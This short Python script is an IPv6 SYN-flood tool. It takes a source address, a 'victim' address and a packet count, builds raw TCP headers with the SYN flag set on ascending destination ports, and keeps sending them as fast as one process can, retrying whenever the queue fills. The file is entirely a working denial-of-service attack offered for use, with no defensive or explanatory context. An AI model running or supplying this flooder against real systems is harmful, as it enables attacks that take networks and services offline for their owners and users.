"""Floods ascending ports with SYNs over IPv6 as fast as one process can: flood.py SOURCE VICTIM COUNT"""
import socket
import struct
import sys

source, victim, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_TCP)
raw.setsockopt(socket.IPPROTO_IPV6, 7, 16)  # IPV6_CHECKSUM: the kernel writes the checksum here
raw.bind((source, 0))
for n in range(count):
    header = struct.pack("!HHIIBBHHH", 40000, 1 + n % 60000, n, 0, 5 << 4, 2, 1024, 0, 0)
    while True:
        try:
            raw.sendto(header, (victim, 0))
            break
        except OSError:
            pass  # the queue is full
